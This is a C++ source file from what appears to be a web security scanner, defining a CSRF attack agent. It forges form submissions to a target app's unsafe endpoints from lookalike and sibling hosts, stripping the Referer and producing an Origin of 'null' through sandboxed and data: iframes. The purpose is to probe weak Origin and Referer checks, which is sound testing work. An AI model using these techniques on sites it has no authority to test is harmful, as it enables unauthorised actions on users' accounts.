// csrf-origin: a forged form whose Origin and Referer are not what a careless check expects: no
// Referer at all, Origin "null" out of a sandboxed frame and out of a data: address, the app's name
// in the path or query of the page, and hosts of the attacker's whose names look like the app's.
#include "core/attack/every_agent.h"
#include "core/attack/lure.h"
#include "core/attack/own_form.h"

namespace parapet::attack {
namespace {

class CsrfOrigin final : public Agent {
    void run(Target& target) override {
        std::vector<OwnHost*> hosts = foreign_hosts(target);
        // SameSite is no help against a sibling.
        if (OwnHost* sibling = sibling_host(target)) hosts.push_back(sibling);
        std::vector<Endpoint const*> const endpoints = unsafe_endpoints(target);
        if (hosts.empty() || endpoints.empty() || !victim_signs_in(target)) return;
        target.wait(std::chrono::minutes(3));
        for (Endpoint const* each : endpoints) {
            ForgedForm const form{.action = address_of(target, *each),
                                  .fields = wanted_fields(*each)};
            for (OwnHost* host : hosts) {
                Lure lure(target, *host);
                // Named by its address, whole: some browsers send that, and a policy can ask for
                // it.
                lure.show_at(target.surface().host + "/?https://" + target.surface().host + "/",
                             submitting(form), {{"referrer-policy", "unsafe-url"}});
            }
            show_without_origin(target, *hosts.front(), form);
            if (hosts.size() > 1) show_without_origin(target, *hosts.back(), form);
        }
        target.note("The forged forms came without a Referer, from origin \"null\", and from " +
                    std::to_string(hosts.size()) + " host(s) with the app's name in the address.");
    }

    static void show_without_origin(Target& target, OwnHost& host, ForgedForm const& form) {
        Lure lure(target, host);
        lure.show(submitting(form), {{"referrer-policy", "no-referrer"}});
        lure.show("<meta name=\"referrer\" content=\"no-referrer\">" + submitting(form));
        lure.show(out_of_nowhere(submitting(form)));
        lure.show("<iframe src=" + in_quotes("data:text/html," + percent(submitting(form))) +
                  "></iframe>");
    }

    // A sandboxed frame's origin is opaque: "null".
    static std::string out_of_nowhere(std::string const& html) {
        return "<iframe sandbox=\"allow-scripts allow-forms\" srcdoc=" + in_quotes(html) +
               "></iframe>";
    }

    static std::string percent(std::string const& text) {
        std::string encoded;
        for (char c : text) {
            if (c == '%' || c == '#' || c == '"' || c == '&')
                encoded += c == '%' ? "%25" : c == '#' ? "%23" : c == '"' ? "%22" : "%26";
            else
                encoded += c;
        }
        return encoded;
    }
};

}  // namespace

std::unique_ptr<Agent> make_csrf_origin() { return std::make_unique<CsrfOrigin>(); }

}  // namespace parapet::attack
